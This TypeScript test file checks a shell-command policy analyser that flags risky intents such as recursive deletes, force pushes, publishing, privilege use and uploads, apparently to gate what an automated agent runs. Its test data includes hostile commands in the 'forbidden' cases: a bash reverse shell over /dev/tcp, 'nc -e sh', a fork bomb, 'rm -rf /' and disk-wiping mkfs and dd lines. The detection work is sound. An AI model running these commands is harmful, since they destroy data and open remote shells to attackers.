import { describe, expect, test } from 'vitest';
import { analyseCommand, type Intent } from '../../../../src/policy/commands/index.ts';
import type { CommandClass } from '../../../../src/policy/commands/analysis.ts';
import { runnerOf } from '../../../../src/policy/commands/specs/index.ts';
import { touchesCommand } from '../../../../src/policy/rules/touches-command.ts';
import { parseWordPattern } from '../../../../src/policy/rules/word-pattern.ts';
import { resolverOf } from '../helpers.ts';

const pathResolver = resolverOf();

function intentsOf(source: string): Set<Intent> {
  return new Set(
    analyseCommand(source, { pathResolver }).commands.flatMap((command) => command.intents),
  );
}

function classesOf(source: string): Set<CommandClass> {
  return new Set(
    analyseCommand(source, { pathResolver }).commands.flatMap((command) => command.classes),
  );
}

const SPELLINGS: Record<Intent, readonly string[]> = {
  '@recursive-delete': [
    'rm -rf x',
    'rm -r -f x',
    'rm -fr x',
    'rm -R x',
    'rm --recursive x',
    'rm --rec x',
    'rm x -r',
    'rm $FLAGS x',
    'rm "$x" y',
    'find . -delete',
    'find . -exec rm -rf {} +',
    'git clean -fdx',
    'git clean -f -e -n',
    'git clean -f -- -n',
    'git clean -n -f --no-dry-run',
    'git clean -n -i',
    'git rm -r x',
    'rsync -a --delete a b',
    'ls | xargs rm -rf',
    'sudo rm -rf x',
    "sh -c 'rm -rf x'",
    'env A=1 rm -rf x',
    '/bin/rm -rf x',
    '\\rm -rf x',
    "r''m -rf x",
    'eval "rm -rf x"',
    'f() { rm -rf x; }',
    'trap "rm -rf x" EXIT',
    'x=$(rm -rf y)',
    '{rm,-rf,x}',
    'f=-rf; rm $f x',
    'watch rm -rf x',
  ],
  '@force-push': [
    'git push --force',
    'git push -f',
    'git push origin +main',
    'git push origin +HEAD:main',
    'git push --force-with-lease',
    'git push --force-with-lease=main:abc',
    'git push --forc',
    'git push --mirror',
    'git push origin :main',
    'git push origin --delete main',
    'git push -d origin main',
    'git push -uf origin x',
    'git -c a=b push -f',
    'git -C x push --force',
    'git push origin $REF',
    'uv run git push -f',
    'bundle exec git push --force',
    'mise exec node@20 -- git push origin +main',
    'git config remote.origin.mirror true && git push',
    'git config --add remote.origin.push +main',
    'git remote add --mirror=push x url',
    'gh api -X DELETE repos/o/r/git/refs/heads/x',
    'gh api -XDELETE /repos/o/r/git/refs/tags/x',
    'gh api --method=DELETE "repos/$R/git/refs/heads/x"',
    'gh api -X PATCH repos/o/r/git/refs/heads/x -f sha=1 -F force=true',
    'gh api -X PATCH repos/o/r/git/refs/heads/x --input body.json',
    'gh api -X "$M" repos/o/r/git/%72efs/heads/x',
    "gh api graphql -f query='mutation { deleteRef(input: {refId: 1}) { clientMutationId } }'",
    "gh api graphql -f query='mutation { updateRef(input: {refId: 1, force: true}) { clientMutationId } }'",
    'curl -X DELETE https://api.github.com/repos/o/r/git/refs/heads/x',
    `curl -X PATCH https://api.github.com/repos/o/r/git/refs/heads/x -d '{"force": true}'`,
    'gh pr merge 1 --squash --delete-branch',
    'gh pr -R o/r close -d 1',
    'gh pr update-branch --rebase',
    'gh repo sync o/r --force',
    'gh repo delete o/r --yes',
    'gh release delete v1 --cleanup-tag',
  ],
  '@history-rewrite': [
    'git rebase main',
    'git reset --hard HEAD~1',
    'git reset HEAD~1',
    'git commit --amend',
    'git commit --am',
    'git filter-branch x',
    'git filter-repo',
    'git push --force',
    'git reflog expire --all',
    'git update-ref refs/heads/main x',
    'git branch -D x',
    'git branch -f main x',
    'git tag -d v1',
    'git stash drop',
    'git pull --rebase',
    'git checkout -B x',
    'git switch -C x',
    'git --no-pager rebase x',
  ],
  '@publish': [
    'gem pus x',
    'gem ya x',
    'npm publish',
    'npm --tag x publish',
    'npm pu',
    'npm author add a x',
    'npm dist-tags add x a',
    'npm distTag add x a',
    'pnpm publish',
    'yarn npm publish',
    'cargo publish',
    'twine upload dist/x',
    'hatch publish',
    'python -m twine upload x',
    'gem push x',
    'gh release create v1',
    'gh -R o/r release create v1',
    'gh api repos/o/r/releases -f tag_name=v1',
    'gh api -XPOST repos/o/r/releases',
    'gh api repos/o/r/releases/1 --method=DELETE',
    'gh api repos/o/r/releases/1 -X "$M"',
    'docker push x',
    'npm dist-tag add x',
    'npm unpublish x',
    'poetry publish',
    'npx semantic-release',
    'npx npm@latest publish',
    'npm exec -- npm publish',
    'npm exec --package x -- npm publish',
    'uv run twine upload x',
    'poetry run -- python -m twine upload x',
    'npm publi',
    './gradlew publishToMavenLocal',
    './gradlew :lib:pub',
    './gradlew pAPTMR',
    './gradlew upA',
    './gradlew closeAndReleaseRepository',
    'mvn org.sonatype.central:central-publishing-maven-plugin:0.9.0:publish',
    'mvn org.jreleaser:jreleaser-maven-plugin:full-release',
    'cargo smart-release',
    'cargo --config=alias.x=\'["publish", "--dry-run"]\' x',
    'docker buildx imagetools create -t a b',
    'docker buildx imagetools create --dry-run=false -t a b',
    'docker buildx imagetools create -t --dry-run b',
    'docker buildx imagetools create -Df --dry-run -t a b',
    'docker buildx imagetools create -p --dry-run -t a b',
    'docker buildx imagetools create --dry-run "$X"',
    'dotnet nuget delete x 1.0',
    'nuget delete x 1.0',
    'helm cm-push x y',
    'docker buildx build --push .',
  ],
  '@privilege': [
    'sudo ls',
    'doas ls',
    'su -c ls',
    'pkexec ls',
    'env sudo ls',
    "bash -c 'sudo ls'",
    'chmod u+s x',
    'chmod 4755 x',
    'timeout 5 sudo ls',
    'ls | xargs sudo ls',
    'find . -exec sudo ls {} +',
    'echo $(sudo ls)',
    'setcap x y',
    'runuser -u x ls',
    '/usr/bin/sudo ls',
  ],
  '@install': [
    'npm i x',
    'npm audit fix',
    'npm audit --force --audit-level=high fix',
    'npm ci',
    'npm install',
    'npm add x',
    'pnpm add x',
    'yarn',
    'yarn add x',
    'pip install x',
    'python3 -m pip install x',
    'apt-get install x',
    'apt install -y x',
    'brew install x',
    'cargo install x',
    'go install x',
    'gem install x',
    'npx x',
    'bunx x',
    'uv pip install x',
    'npm exec x',
    'pnpm dlx x',
    'bundle i',
    'bundle inst',
    'gem ins x',
    'composer req x/y',
    'composer u',
    'npm u',
    'npm ln x',
    'npm rb',
    'npm ddp',
    'npm innit x',
    'npm sit',
    'npm clean-install-test',
    'npm cleanInstall',
    'pnpm rb',
    'pnpm ln x',
    'bun c x',
  ],
  '@download': [
    'curl https://x.example',
    'wget x',
    'git clone x',
    'git fetch',
    'git pull',
    'git remote update',
    'git remote -v update origin',
    'git remote add -f x https://a.org/x',
    'git archive --remote=https://a.org/x HEAD',
    'git archive --remote https://a.org/x HEAD',
    'gh release download v1',
    'docker pull x',
    'scp a@b:c d',
    'cargo fetch',
    'hg clo x',
  ],
  '@upload': [
    'curl -T x https://x.example',
    'env A=1 curl -sd @x https://x.example',
    'xargs curl -T < list',
    "bash -c 'scp x a@b:c'",
    "find . -exec curl -T {} https://x.example ';'",
    'uv run http POST x.example',
  ],
};

for (const [intent, sources] of Object.entries(SPELLINGS)) {
  describe(`${intent} is seen in every spelling`, () => {
    test.each(sources)('%s', (source) => expect([...intentsOf(source)]).toContain(intent));
  });
}

test.each([
  'rm x',
  'git push',
  'git push origin main',
  'git branch',
  'npm test',
  'npm run build',
  'npm un x',
  'yarn auth',
  'find . -name x',
  'chmod +x a',
  'git reset README.md',
  'git config remote.origin.url x',
  'git config --get remote.origin.push',
  'git remote add x url',
  'gh pr merge 1 --squash',
  'gh api repos/o/r/pulls',
  'gh api "repos/$R/issues/1/comments" -f body="$B"',
  'gh api repos/o/r/git/refs/heads/main --jq .object.sha',
  'gh api repos/o/r/git/refs -f ref=refs/heads/x -f sha=1',
  'gh api repos/o/r/git/refs/heads/x -X PATCH -f sha=1 -F force=false',
  'gh api repos/o/r/releases/latest',
  'gh api -X GET repos/o/r/releases -f per_page=5',
  'gh api repos/o/r/releases --jq .[].output',
])('%s is none of them', (source) =>
  expect([...intentsOf(source)].filter((intent) => intent !== '@install')).toEqual([]),
);

describe('classes', () => {
  test.each([
    ['git log', '@git-readonly'],
    ['git log', '@readonly'],
    ['git commit -m x', '@git-write'],
    ['git add .', '@git-write'],
    ['git branch new', '@git-write'],
    ['git stash', '@git-write'],
    ['cp a b', '@writes'],
    ['tee x', '@writes'],
    ['ls > x', '@writes'],
    ['sed -i s/a/b/ x', '@writes'],
    ['find . -delete', '@writes'],
    ['LD_PRELOAD=x ls', '@forbidden'],
    ['export LD_PRELOAD=x', '@forbidden'],
    ['env LD_PRELOAD=x ls', '@forbidden'],
    ['mkfs.ext4 /dev/sda', '@forbidden'],
    ['dd if=a of=/dev/sda', '@forbidden'],
    ['bash -i >& /dev/tcp/1.2.3.4/80 0>&1', '@forbidden'],
    ['exec 5<>/dev/tcp/x/80', '@forbidden'],
    ['shutdown now', '@forbidden'],
    ['kill -9 -1', '@forbidden'],
    ['rm -rf /', '@forbidden'],
    ['rm -rf ~', '@forbidden'],
    ['rm -rf $HOME/', '@forbidden'],
    ['nc -e sh x 1', '@forbidden'],
    [':(){ :|:& };:', '@forbidden'],
    ['sudo shutdown now', '@forbidden'],
  ] satisfies [string, CommandClass][])('%s is %s', (source, expected) => {
    expect([...classesOf(source)]).toContain(expected);
  });

  test('no program that writes is also read-only, and writing by redirection is known beside what the program is', () => {
    expect([...classesOf('ls > x')]).toEqual(expect.arrayContaining(['@readonly', '@writes']));
    for (const source of [
      'tee x > y',
      'sed -i s/a/b/ x',
      'find . -delete',
      'git stash',
      'sort -o x y',
      'LD_PRELOAD=x ls',
    ]) {
      expect([...classesOf(source)]).not.toContain('@readonly');
    }
  });
});

test.each(['yarn clean', 'pnpm clean', 'bun clean'])(
  '%s is a script, and installs nothing',
  (source) => {
    expect([...intentsOf(source)]).toEqual([]);
  },
);

describe('a word that is known only at run time', () => {
  test.each([
    'poetry add "$X"',
    'poetry -n add "$X"',
    'npm install "$X"',
    'npm test -- "$X"',
    'yarn workspace a add "$X"',
    'cargo test "$X"',
    'cargo --locked test "$X"',
    'gem install "$X"',
    'bun add "$X"',
  ])('publishes nothing behind another subcommand: %s', (source) => {
    expect([...intentsOf(source)]).not.toContain('@publish');
  });

  test.each([
    'poetry "$X"',
    'poetry -n "$X"',
    'poetry -C "$D" publish',
    'poetry -C a "$X"',
    'npm "$X"',
    'npm --tag next "$X"',
    'npm $F publish',
    'yarn workspace a "$X"',
    'yarn npm "$X"',
    'pnpm -F "$P" publish',
    'cargo +nightly "$X"',
    'cargo $F publish',
    'gem -s a "$X"',
  ])('may publish where a subcommand can stand: %s', (source) => {
    expect([...intentsOf(source)]).toContain('@publish');
  });
});

/** Commands of programs whose options the tables know, without an option before the subcommand. */
const WITH_SUBCOMMANDS: readonly (readonly [program: string, rest: string])[] = [
  ['npm', 'publish'],
  ['pnpm', 'publish'],
  ['yarn', 'npm publish'],
  ['bun', 'publish'],
  ['cargo', 'publish'],
  ['poetry', 'publish'],
  ['uv', 'publish'],
  ['gem', 'push x'],
  ['docker', 'push x'],
  ['podman', 'push x'],
  ['helm', 'push x y'],
  ['gh', 'release create v1'],
  ['dotnet', 'nuget push x'],
  ['mvn', 'deploy'],
  ['gradle', 'publish'],
  ['go', 'install x@latest'],
  ['composer', 'require x/y'],
  ['bundle', 'install'],
  ['pip', 'install x'],
  ['terraform', 'apply'],
  ['kubectl', 'delete pod x'],
];

/** An option alone, and with a value unless it has one. */
function withValues(option: string): readonly string[] {
  return option.includes('=') ? [option] : [option, `${option} v`, `${option}=v`];
}

test('an option before the subcommand hides no intent, and no command from a rule that denies', () => {
  for (const [program, rest] of WITH_SUBCOMMANDS) {
    const { escapeHatches = '', leading = '', values = '', only = '' } = runnerOf(program) ?? {};
    const options = [escapeHatches, leading, values, only].join(' ').split(' ').filter(Boolean);
    const intents = intentsOf(`${program} ${rest}`);
    const rule = parseWordPattern(`${program} ${rest} *`);
    if (rule === null) throw new Error(rest);
    for (const option of new Set(options))
      for (const spelled of withValues(option)) {
        const source = `${program} ${spelled} ${rest}`;
        expect([source, [...intents].filter((each) => !intentsOf(source).has(each))]).toEqual([
          source,
          [],
        ]);
        const { commands } = analyseCommand(source, { pathResolver });
        expect([source, commands.some((each) => touchesCommand(rule, each) === 'yes')]).toEqual([
          source,
          true,
        ]);
      }
  }
});
